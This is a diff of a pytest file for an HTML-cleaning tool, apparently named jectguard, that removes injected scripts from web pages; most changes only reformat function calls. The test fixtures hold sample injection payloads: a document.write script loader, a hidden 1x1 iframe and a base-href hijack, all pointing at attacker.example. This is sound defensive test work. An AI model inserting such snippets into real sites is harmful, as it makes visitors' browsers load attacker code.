@@ -14,7 +14,7 @@ JECTGUARD = Path(sys.executable).with_name("jectguard")
 PAGE_URL = "http://shop.example/news/"
 FOOTER = (
     b"<script>document.write('<script src=\"http://attacker.example/dot.php\"></scr'+'ipt>"
-    b"<iframe src=\"http://attacker.example/dot.php\" width=1 height=1></iframe>');</script>"
+    b'<iframe src="http://attacker.example/dot.php" width=1 height=1></iframe>\');</script>'
 )
 CLEAN = (
     b"<!doctype html><html><head><title>x</title><script src=/app.js></script></head>"
@@ -60,8 +60,9 @@ def test_clean_file_comes_out_unchanged(tmp_path: Path, lists: Path) -> None:
 def test_injected_file_stripped_with_json_findings(tmp_path: Path, lists: Path) -> None:
     page = tmp_path / "page.html"
     page.write_bytes(injected())
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--no-comment", str(page),
-              cache=tmp_path)
+    res = run(
+        "--url", PAGE_URL, "--blocklist", str(lists), "--no-comment", str(page), cache=tmp_path
+    )
     assert res.returncode == 1, res.stderr
     assert res.stdout == CLEAN
     (found,) = removals(res)
@@ -73,10 +74,20 @@ def test_injected_file_stripped_with_json_findings(tmp_path: Path, lists: Path) 
 
 
 def test_stdin_and_relative_urls(tmp_path: Path, lists: Path) -> None:
-    body = injected(footer=b"<script src=//attacker.example/x.js></script>"
-                           b"<base href=http://attacker.example/><script src=y.js></script>")
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--no-comment", "-", stdin=body,
-              cache=tmp_path)
+    body = injected(
+        footer=b"<script src=//attacker.example/x.js></script>"
+        b"<base href=http://attacker.example/><script src=y.js></script>"
+    )
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--no-comment",
+        "-",
+        stdin=body,
+        cache=tmp_path,
+    )
     assert res.returncode == 1, res.stderr
     urls = [f["url"] for f in removals(res)]
     assert "http://attacker.example/x.js" in urls
@@ -96,8 +107,17 @@ def test_windows_1251_via_content_type(tmp_path: Path, lists: Path) -> None:
     text = "<html><body><p>Привет</p>{}</body></html>"
     page = tmp_path / "page.html"
     page.write_bytes(text.format(FOOTER.decode()).encode("cp1251"))
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--no-comment",
-              "--content-type", "text/html; charset=windows-1251", str(page), cache=tmp_path)
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--no-comment",
+        "--content-type",
+        "text/html; charset=windows-1251",
+        str(page),
+        cache=tmp_path,
+    )
     assert res.returncode == 1, res.stderr
     assert res.stdout == text.format("").encode("cp1251")
 
@@ -109,25 +129,52 @@ def test_after_html_policy(tmp_path: Path, lists: Path) -> None:
     assert logged.returncode == 0 and logged.stdout == page.read_bytes()
     assert removals(logged)[0]["reason"] == "after-html"
     assert removals(logged)[0]["removed"] is False
-    stripped = run("--url", PAGE_URL, "--blocklist", str(lists), "--after-html", "strip",
-                   "--no-comment", str(page), cache=tmp_path)
+    stripped = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--after-html",
+        "strip",
+        "--no-comment",
+        str(page),
+        cache=tmp_path,
+    )
     assert stripped.returncode == 1 and stripped.stdout == CLEAN
 
 
 def test_bad_input(tmp_path: Path, lists: Path) -> None:
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), str(tmp_path / "nope.html"),
-              cache=tmp_path)
+    res = run(
+        "--url", PAGE_URL, "--blocklist", str(lists), str(tmp_path / "nope.html"), cache=tmp_path
+    )
     assert res.returncode == 2 and b"nope.html" in res.stderr
     bad = tmp_path / "sigs.toml"
     bad.write_text('[[signature]]\nname = "x"\n')
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--signatures", str(bad), "-",
-              stdin=CLEAN, cache=tmp_path)
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--signatures",
+        str(bad),
+        "-",
+        stdin=CLEAN,
+        cache=tmp_path,
+    )
     assert res.returncode == 2 and b"--signatures" in res.stderr
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--max-bytes", "10", "-",
-              stdin=CLEAN, cache=tmp_path)
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--max-bytes",
+        "10",
+        "-",
+        stdin=CLEAN,
+        cache=tmp_path,
+    )
     assert res.returncode == 2 and b"max-bytes" in res.stderr
-    res = run("--url", "shop.example", "--blocklist", str(lists), "-", stdin=CLEAN,
-              cache=tmp_path)
+    res = run("--url", "shop.example", "--blocklist", str(lists), "-", stdin=CLEAN, cache=tmp_path)
     assert res.returncode == 2
 
 
@@ -151,11 +198,29 @@ def test_signatures_file_read_as_the_proxy_reads_it(tmp_path: Path, lists: Path)
 
     huge = tmp_path / "huge.toml"
     huge.write_bytes(b"# padding\n" * (MAX_SIGNATURES_FILE_BYTES // 10 + 1))
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--signatures", str(huge), "-",
-              stdin=CLEAN, cache=tmp_path)
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--signatures",
+        str(huge),
+        "-",
+        stdin=CLEAN,
+        cache=tmp_path,
+    )
     assert res.returncode == 2 and b"--signatures" in res.stderr and b"larger" in res.stderr
     latin = tmp_path / "latin.toml"
     latin.write_bytes(b"# caf\xe9\n")
-    res = run("--url", PAGE_URL, "--blocklist", str(lists), "--signatures", str(latin), "-",
-              stdin=CLEAN, cache=tmp_path)
+    res = run(
+        "--url",
+        PAGE_URL,
+        "--blocklist",
+        str(lists),
+        "--signatures",
+        str(latin),
+        "-",
+        stdin=CLEAN,
+        cache=tmp_path,
+    )
     assert res.returncode == 2 and b"UTF-8" in res.stderr
